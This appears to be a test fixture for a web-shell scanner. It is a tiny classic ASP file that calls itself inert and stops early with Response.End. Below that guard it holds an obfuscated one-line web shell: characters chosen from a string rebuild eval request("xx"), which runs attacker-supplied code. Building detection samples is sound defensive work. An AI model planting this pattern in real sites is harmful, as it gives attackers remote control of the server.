<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Function d(s) : d = Mid(love, s, 1) : End Function
love = "(tqxuesrav l)" & """"
execute(d(6) & d(10) & d(9) & d(12) & d(11) & d(8) & d(6) & d(3) & d(5) & d(6) & d(7) & d(2) & d(1) & d(14) & d(4) & d(4) & d(14) & d(13))
%>
